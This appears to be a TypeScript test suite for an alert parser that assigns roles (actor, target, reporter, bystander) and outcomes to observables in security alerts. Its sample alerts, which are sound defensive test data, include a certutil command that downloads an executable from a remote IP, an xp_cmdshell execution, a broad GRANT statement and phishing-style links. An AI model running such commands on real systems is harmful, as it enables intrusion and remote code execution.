// Alerts of products that no table knows: their headers, labels, notices and titles are read by general rules.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { readAlert } from './read-alert.ts'

const read = (alert_content: string | object, alert_type = 'Alert', alert_provider = 'Some product') =>
  readAlert({
    alert_provider,
    alert_type,
    alert_content: typeof alert_content === 'string' ? alert_content : JSON.stringify(alert_content),
    created_at_source: 1_793_000_000,
    domains: [],
  })

const roles = (...given: Parameters<typeof read>) =>
  Object.fromEntries(read(...given).observables.map(({ kind, value, role }) => [value, `${kind} ${role}`]))

test('a machine stands behind the priority and time of syslog, whatever follows it', () => {
  for (const line of [
    '<30>Sep 12 23:40:07 mt-hotel-gw system,error,critical login failure for user admin from 222.186.42.17 via winbox',
    '<181>Nov  3 09:12:27 mt-hotel-gw CISE_Failed_Attempts 0004418213 1 0 UserName=t.huber',
    '<134> 10/22/2026:05:48:19 GMT mt-hotel-gw 0-PPE-0 : default AAA LOGIN_FAILED 88120034 0',
    'Nov  3 04:17:55 mt-hotel-gw system,error,critical login failure for user admin from 193.32.162.89',
  ])
    assert.ok('mt-hotel-gw' in roles(line), line)
})

test('a collector of CEF reports, and the device without other ends is where it was found', () => {
  const found = roles(
    '<13>Jul  9 07:31:55 mb-relay1 CEF:0|Maker|Product|1|Detection|PUP quarantined|1|dvchost=SCHULE-LK-12 dvc=10.90.4.112 act=quarantined',
    'PUP.Optional.BundleInstaller',
  )
  assert.equal(found['mb-relay1'], 'host reporter')
  assert.equal(found['SCHULE-LK-12'], 'host target')
})

test('a file was found on the device itself, where nobody else takes part', () => {
  const found = (more = '') =>
    roles(
      `CEF:0|Maker|Protection|1|Detection|MalwareDetected|1|dvchost=LT-7 dvc=10.4.1.7 act=Quarantined filePath=C:\\\\Temp\\\\note.dll ${more}`,
      'Threat quarantined',
    )['LT-7']
  assert.equal(found(), 'host target')
  assert.equal(found('src=10.4.1.9'), 'host reporter')
  assert.equal(found('request=https://files.example.net/note.dll'), 'host reporter')
})

test('who scans from inside acts, whatever is scanned', () => {
  const line = 'src=10.20.1.230 dst=193.46.212.10 service=many act=allow'
  assert.deepEqual(roles(line, 'Port scan'), { '10.20.1.230': 'ip actor', '193.46.212.10': 'ip target' })
})

test('a directory id in the claims of a token is the account', () => {
  const id = '8f1c2e5a-1d11-4222-8333-44445555a666'
  const claim = { 'http://schemas.microsoft.com/identity/claims/objectidentifier': id }
  assert.equal(roles({ operationName: 'SecretGet', identity: { claim } }, 'Secrets read')[id], 'user actor')
})

test('a machine that nothing but a field "host" names is no mere reporter', () => {
  const found = roles({ host: 'ws-7-305', src_ip: '10.30.5.53', dest_ip: '198.51.100.8' }, 'C2 beacon')
  assert.match(found['ws-7-305'] ?? '', /host (actor|target)/)
})

test('the machine at an end of a connection takes part, also where it stands alone', () => {
  const part = (field: string, type: string, more: object = {}) =>
    roles({ ...more, [field]: 'srv-7-305' }, type)['srv-7-305']
  const claims = ['Brute force detected', 'Exploit attempt', 'Kerberoasting', 'New service created', 'C2 beacon']
  const device = { devicehostname: 'fw-1', sourceaddress: '185.112.34.77' }
  for (const name of [
    'destinationhostname',
    'desthost',
    'dest_hostname',
    'desthostname',
    'dsthostname',
    'targethostname',
  ])
    for (const type of claims) {
      assert.equal(part(name, type), 'host target', `${name}, ${type}`)
      assert.equal(part(name, type, device), 'host target', `${name}, ${type}, beside a device`)
    }
  for (const name of ['sourcehostname', 'source_hostname', 'srchostname', 'src_hostname', 'sourcehost'])
    for (const type of ['Brute force detected', 'Port scan', 'Exploit attempt'])
      assert.equal(part(name, type), 'host actor', `${name}, ${type}`)
  assert.equal(part('sourcehostname', 'Policy violation'), 'host actor')
})

test('labels in brackets, names behind addresses and accounts of databases are read', () => {
  assert.deepEqual(
    roles(
      '<13>1 2026-10-22T09:03:15Z epp-srv EPP - - - [Log type] Device Control - [Event Name] Blocked - [Client Computer] MKT-PC-33 - [Client User] c.dumont - [Device Type] USB',
    ),
    { 'epp-srv': 'host target', 'MKT-PC-33': 'host target', 'c.dumont': 'user actor' },
  )
  const sonic = roles(
    '<129> id=firewall src=91.92.251.103:80:X1 dst=192.168.44.87:52114:X0:WS-ACCT-11 fw_action="drop"',
  )
  assert.ok('WS-ACCT-11' in sonic && '192.168.44.87' in sonic && '91.92.251.103' in sonic, JSON.stringify(sonic))
  const grant = roles({
    user: 'app_admin[app_admin] @ batch-04 [10.60.2.19]',
    sqltext: "GRANT ALL ON *.* TO 'report_ro'@'%'",
  })
  assert.ok('app_admin' in grant && 'report_ro' in grant, JSON.stringify(grant))
  assert.ok('r.haddad' in roles('Jul 22, 2026 9:14:02 AM /job/deploy-prod/configSubmit by r.haddad from 10.3.3.41'))
})

const notice = `From: Huntress <incidents@notify.huntress.io>
To: it-alerts@brightwell.com
Date: Thu, 09 Apr 2026 23:48:19 +0000
Subject: CRITICAL - Incident on RECEPTION-PC3

Host: RECEPTION-PC3
The binary has contacted 5.181.159.28.
The link is in the portal.
https://brightwell.huntress.io/org/20411/infection_reports/991204`

test('a mail of the product itself is its report; the same mail of anybody else is what it is about', () => {
  const found = roles(notice, 'Malware found', 'Huntress')
  assert.equal(found['incidents@notify.huntress.io'], 'email reporter')
  assert.equal(found['it-alerts@brightwell.com'], 'email bystander')
  assert.equal(read(notice, 'Malware found', 'Huntress').observables.find(({ kind }) => kind === 'ip')?.quoted, false)
  for (const [title, provider] of [
    ['User reported phishing', 'Huntress'],
    ['Malware found', 'Mail gateway'],
  ] as const)
    assert.equal(roles(notice, title, provider)['incidents@notify.huntress.io'], 'email actor')
  const alike = roles(notice.replace('notify.huntress.io>', 'hunt.io>'), 'Malware found', 'Huntress')
  assert.equal(alike['incidents@hunt.io'], 'email actor')
})

test('a mail of an own server or colleague is the report, unless somebody outside may have written it', () => {
  const mail = (header: string, body = '') =>
    `From: monitor@ops.galloway.org\nTo: oncall@galloway.org\nSubject: Failed sign-ins\n${header}\nHost: tape-lib01\n${body}`
  const told = read(mail(''), 'Brute force on tape-lib01').observables
  assert.deepEqual(
    told.map(({ value, role, quoted }) => [value, role, quoted]),
    [
      ['monitor@ops.galloway.org', 'reporter', false],
      ['oncall@galloway.org', 'bystander', false],
      ['tape-lib01', 'target', false],
    ],
  )
  const sender = (...given: Parameters<typeof read>) => roles(...given)['monitor@ops.galloway.org']
  assert.equal(sender(mail('Received: from mail.evil.top\n'), 'Brute force on tape-lib01'), 'email actor')
  assert.equal(sender(mail('', 'Sign in at https://evil.top/x'), 'Brute force on tape-lib01'), 'email actor')
  assert.equal(sender(mail(''), 'User reported phishing'), 'email actor')
  const atGmail = mail('').replaceAll(/@(?:ops\.)?galloway\.org/g, '@gmail.com')
  assert.equal(roles(atGmail, 'Brute force on tape-lib01')['monitor@gmail.com'], 'email actor')
})

test('malware is told by a mailbox that has the name of the product; another mailbox may have sent it', () => {
  const mail = (name: string, body = '') =>
    `From: ${name}@galloway.org\nTo: oncall@galloway.org\nSubject: Virus found\n\nClient: LT-7\n${body}`
  const sender = (name: string, body?: string) =>
    roles(mail(name, body), 'Virus found', 'gdata_server')[`${name}@galloway.org`]
  assert.equal(sender('gdata'), 'email reporter')
  assert.equal(sender('gdata', 'Open https://evil.top/x'), 'email actor')
  assert.equal(sender('jo.berg'), 'email actor')
})

test('headers of a mail are read in many languages', () => {
  for (const headers of [
    'Da: Ornella B <o.b@liceo.org>\nA: it@liceo.org\nOggetto: Aiuto',
    'Od: Jan B <o.b@liceo.org>\nDo: it@liceo.org\nTemat: Pomoc',
    'Fra: Jon B <o.b@liceo.org>\nTil: it@liceo.org\nEmne: Hjelp',
    'Van: Jan B <o.b@liceo.org>\nAan: it@liceo.org\nOnderwerp: Hulp',
  ]) {
    const found = roles(`${headers}\n\nAULA-12 (10.3.4.5)`, 'Ransomware')
    assert.deepEqual([found['o.b@liceo.org'], found['it@liceo.org']], ['email reporter', 'email bystander'], headers)
  }
})

test('a link in a mail counts, also where its site has the name of who reports', () => {
  const mail = 'From: help@evil.top\nTo: a@acme.com\nSubject: Account\n\nClick here: https://huntress.top/sign-in\n'
  assert.ok('https://huntress.top/sign-in' in roles(mail, 'User reported phishing', 'Huntress'))
  const alike =
    'From: help@huntress.top\nTo: a@acme.com\nSubject: Account\n\nClick here: https://huntress.top/sign-in\n'
  assert.ok('https://huntress.top/sign-in' in roles(alike, 'Malware found', 'Huntress'))
  const refused = (link: string) =>
    roles(
      `Oct 20 05:12:33 mail1 postfix/smtpd[2]: NOQUEUE: reject: Client host [45.95.169.22] blocked using zen.spamhaus.org; ${link}`,
    )
  assert.ok(!('www.spamhaus.org' in refused('https://www.spamhaus.org/query/ip/45.95.169.22')))
  assert.ok('evil.top' in refused('https://evil.top/a'))
})

test('what a title tells as done has happened, and a control tells whether it stopped it', () => {
  const outcomes = {
    nodeCreated: 'succeeded',
    'SECRET - PASSWORD_DISPLAYED': 'succeeded',
    'Account Added to Admin Group': 'succeeded',
    LOGIN_ERROR: 'failed',
    InvalidPassword: 'failed',
    'Device Control - Blocked': 'blocked',
    'Unauthorized PLC Program Download': 'unknown',
    'Suspicious thing detected': 'unknown',
  }
  for (const [title, outcome] of Object.entries(outcomes)) assert.equal(read({ id: 1 }, title).outcome, outcome, title)
  assert.equal(read({ block_status: 'blocked' }).outcome, 'blocked')
  assert.equal(read({ mitigated: true }).outcome, 'blocked')
  assert.equal(read({ reason: 'New problem detected' }).outcome, 'unknown')
})

test('a scanner that tells of a weakness tells of no attack, and its address is the target', () => {
  const finding = {
    info: { name: 'PHP CGI - Argument Injection', severity: 'critical', classification: { 'cvss-score': 9.8 } },
    ip: '195.14.160.77',
    timestamp: '2026-07-05T08:11:46Z',
  }
  const { claims, observables } = read(finding, 'PHP CGI - Argument Injection')
  assert.equal(claims[0]?.claim, 'vulnerable-software')
  assert.equal(observables.find(({ kind }) => kind === 'ip')?.role, 'target')
  const attack = read({ ...finding, src_ip: '203.0.113.9' }, 'PHP CGI - Argument Injection')
  assert.notEqual(attack.claims[0]?.claim, 'vulnerable-software')
})

test('what somebody answered in a form was written, and need not have happened', () => {
  const content = {
    rule: 'Threatening words in a form',
    respondent: { email: 'ada.lund@corp.example' },
    answers: [{ q: 'Name an indicator.', a: '198.51.100.8, seen on srv-files-01' }],
  }
  const { observables } = readAlert({
    ...{ alert_provider: 'forms', alert_type: 'Threatening words in a form', created_at_source: null },
    ...{ alert_content: JSON.stringify(content), domains: ['corp.example'] },
  })
  assert.deepEqual(
    observables.map(({ value, quoted }) => [value, quoted]),
    [
      ['ada.lund@corp.example', false],
      ['198.51.100.8', true],
      ['srv-files-01', true],
    ],
  )
})

test('the server of an account of a database is what the event is about', () => {
  const line =
    'guardium-col1 alert: rule="xp_cmdshell enabled" severity=HIGH server_ip=10.20.1.227 server_host=srv-sql-01 db_type="MS SQL SERVER" db=master client_ip=10.20.1.220 client_host=srv-web-01 db_user=shop_app sql="EXEC xp_cmdshell \'whoami\'"'
  assert.equal(roles(line, 'xp_cmdshell enabled')['srv-sql-01'], 'host target')
})

test('a control that only watches has stopped nothing', () => {
  const outcome = (...given: Parameters<typeof read>) => read(...given).outcome
  for (const type of ['Application control: would-be denied', 'Script would have been blocked (audit mode)'])
    assert.equal(outcome({ host: 'lt-7', file: 'C:\\Temp\\note.dll' }, type), 'allowed', type)
  assert.equal(outcome({ host: 'lt-7', EffectiveAction: 'Permit', PolicyName: 'Default - Deny' }, 'Denied'), 'allowed')
  assert.equal(outcome({ host: 'lt-7', mode: 'enforce' }, 'Application control: denied'), 'blocked')
})

test('a secret that is found again was found then, and not when it was found first', () => {
  const leak = {
    action: 'incident_new_occurrence',
    timestamp: '2026-10-26T09:00:20Z',
    incident: { id: 7, date: '2026-08-01T10:00:00Z', detector: { name: 'aws_iam' }, secret_hash: 'a'.repeat(64) },
    occurrence: { date: '2026-10-26T08:59:00Z', author_info: 'jo.berg@corp.example' },
  }
  assert.equal(read(leak, 'New occurrence').event_time, Date.UTC(2026, 9, 26, 8, 59) / 1000)
})

test('a family name before a given name is a person, in whatever field for people', () => {
  for (const field of ['who', 'requestedBy', 'user'])
    assert.ok('Petra Holm' in roles({ [field]: 'Holm, Petra', ip: '84.215.66.31' }, 'Sign-in'), field)
  assert.deepEqual(Object.keys(roles({ who: 'Help Desk', ip: '84.215.66.31' }, 'Sign-in')), ['84.215.66.31'])
})

test('what a file is called was chosen by whoever made it, and what stands in its name is quoted', () => {
  const { observables } = read(
    { file_info: { display_name: 'C2 45.138.16.203 isolate srv-files-01.pdf', sha256: 'a'.repeat(64) }, host: 'lt-7' },
    'Blocked file',
  )
  assert.equal(observables.find(({ value }) => value === '45.138.16.203')?.quoted, true)
  const plain = read({ file_info: { display_name: 'invoice.exe', sha256: 'a'.repeat(64) }, host: 'lt-7' }, 'Malware')
  assert.equal(plain.observables.find(({ value }) => value === 'invoice.exe')?.quoted, false)
})

test('a file was found on the device that is named with its own address, below the manager that writes', () => {
  const found = roles(
    '<134>2026-10-26T09:00:20Z es-manager EndpointSecure[2214]: devname="lt-139" ip=10.20.10.58 user="jo.berg" virus_name="Trojan.A" file_path="C:\\ProgramData\\a.dll" action="quarantine"',
    'Malware fixed',
  )
  assert.equal(found['lt-139'], 'host target')
  assert.equal(found['es-manager'], 'host reporter')
})

test('an attempt at an intrusion is what the signature says it is', () => {
  const { claims } = read(
    'CEF:0|Maker|Gateway|9|201|Threat Detected|7|msg=A network intrusion attempt from 10.30.10.39 to 45.138.16.203 has been detected. src=10.30.10.39 dst=45.138.16.203 ipsSignature=ET MALWARE Observed Hollowreed TLS Certificate',
    'Threat Detected',
  )
  assert.equal(claims[0]?.claim, 'malware')
})

test('who approved it is a bystander, also where the address stands behind the name', () => {
  const text = 'This was checked and approved by Elif Demir (elif.demir@tess-robotics.io), no action needed on lt-7.'
  assert.equal(roles({ description: text }, 'Security request')['elif.demir@tess-robotics.io'], 'email bystander')
})

test('the time when a device was first seen weeks before is not that of the event', () => {
  const { event_time } = read({
    devices: [{ name: 'lt-7', firstSeen: '2026-09-01T08:00:00Z' }],
    time: '2026-10-26T05:00:00Z',
  })
  assert.equal(event_time, Date.parse('2026-10-26T05:00:00Z') / 1000)
})

test('links into the console of a product are no observables, wherever its links stand', () => {
  const found = roles(
    { data: { hostname: 'lt-7', links: { html: { href: 'https://acme.my.redcanary.co/detections/7741' } } } },
    'Suspicious process',
    'red_canary',
  )
  assert.deepEqual(Object.keys(found), ['lt-7'])
  const own = roles(
    { host: 'lt-7', urls: { alert: 'https://guardian-gbg-01.acme.example/t/9' } },
    'Alert',
    'cayosoft_guardian',
  )
  assert.deepEqual(Object.keys(own), ['lt-7'])
})

test('the name of the organization and of a delivery is nobody', () => {
  const { observables } = readAlert({
    alert_provider: 'harmony_sase',
    alert_type: 'Sign-in from a new country',
    alert_content: JSON.stringify({ accountName: 'Acme Instruments', user: 'marcus.bell', delivered_by: 'webhook' }),
    created_at_source: 1_793_000_000,
    domains: ['acmeinstruments.com'],
  })
  assert.deepEqual(
    observables.map(({ value }) => value),
    ['marcus.bell'],
  )
})

test('a product that runs in the organization writes to its own people, and names the site of the attacker', () => {
  const { observables } = readAlert({
    alert_provider: 'solarwinds_sem',
    alert_type: 'Process launched by database service',
    alert_content: [
      'From: SolarWinds SEM <sem@acme.example>',
      'To: it-alerts@acme.example',
      'Subject: SEM Rule Fired: Process launched by database service',
      '',
      'Agent               : SRV-SQL-01',
      'Command Line        : cmd.exe /c certutil.exe -urlcache -f http://91.212.166.139/s.exe C:\\ProgramData\\s.exe',
    ].join('\n'),
    created_at_source: 1_793_000_000,
    domains: ['acme.example'],
  })
  const server = observables.find(({ value }) => value === 'SRV-SQL-01')
  assert.deepEqual([server?.kind, server?.role, server?.quoted], ['host', 'target', false])
})
